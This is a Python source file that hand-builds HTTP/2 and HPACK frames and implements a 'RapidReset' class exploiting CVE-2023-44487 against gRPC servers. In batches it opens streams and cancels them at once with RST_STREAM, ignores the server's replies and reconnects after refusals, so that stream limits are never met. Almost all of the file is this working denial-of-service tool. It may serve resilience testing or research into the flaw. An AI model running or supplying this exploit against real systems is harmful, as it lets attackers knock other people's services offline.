# SPDX-License-Identifier: Apache-2.0
"""HTTP/2 by hand (RFC 9113, 7541): just enough to open streams and to take them back at once."""
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _integer(value: int, bits: int, first: int) -> bytes:
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def _text(value: str) -> bytes:
    return _integer(len(value), 7, 0) + value.encode()   # no Huffman coding


def headers(path: str, authority: str, token: str, scheme: str) -> bytes:
    """A header block without the dynamic table: the same bytes fit every stream."""
    literal = lambda index, value: _integer(index, 4, 0) + _text(value)
    return (bytes([0x83, 0x87 if scheme == "https" else 0x86]) + literal(4, path) + literal(1, authority) + literal(31, "application/grpc")
            + literal(23, f"Bearer {token}") + b"\0" + _text("te") + _text("trailers"))


def connect(host: str, port: int, ca: str = "", cert: str = "", key: str = "", source: str = "", timeout: float = 5.0) -> socket.socket:
    raw = socket.create_connection((host, port), timeout, (source, 0) if source else None)
    if ca:
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        if cert:
            context.load_cert_chain(cert, key)
        try:
            raw = context.wrap_socket(raw, server_hostname="localhost")
        except (OSError, ssl.SSLError):
            raw.close()
            raise
    raw.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return raw


def _exactly(connection: socket.socket, count: int) -> bytes:
    data = b""
    while len(data) < count:
        piece = connection.recv(count - len(data))
        if not piece:
            raise ConnectionError("the connection ended within a frame")
        data += piece
    return data


def read(connection: socket.socket):
    """(kind, stream, payload) of the next frame."""
    head = _exactly(connection, 9)
    return head[3], struct.unpack(">I", head[5:])[0], _exactly(connection, int.from_bytes(head[:3], "big"))


class RapidReset:
    """CVE-2023-44487: requests that are cancelled in the same breath, so that the bound on open streams is never met."""

    def __init__(self, host: str, port: int, path: str, token: str, ca: str = "", cert: str = "", key: str = "", source: str = "") -> None:
        self.to = (host, port, ca, cert, key, source)
        self.block = headers(path, f"localhost:{port}", token, "https" if ca else "http")
        self.sent = self.connections = self.refused = 0

    def run(self, seconds: float, batch: int = 200) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                with connect(*self.to) as connection:
                    self.connections += 1
                    self._one(connection, end, batch)
            except OSError:
                self.refused += 1
                time.sleep(0.05)

    def _one(self, connection: socket.socket, end: float, batch: int) -> None:
        stream = 1
        message = frame(DATA, END_STREAM, 0, b"\0\0\0\0\0")[9:]
        while time.monotonic() < end and stream < 1 << 30:
            out = []
            for _ in range(batch):
                out += (frame(HEADERS, END_HEADERS, stream, self.block), frame(DATA, END_STREAM, stream, message),
                        frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                stream += 2
            connection.sendall(b"".join(out))
            self.sent += batch
            # What the server says is thrown away, so that it never waits for us; its end of the connection ends this one.
            while select.select([connection], [], [], 0)[0]:
                connection.settimeout(1.0)
                if not connection.recv(1 << 16):
                    return
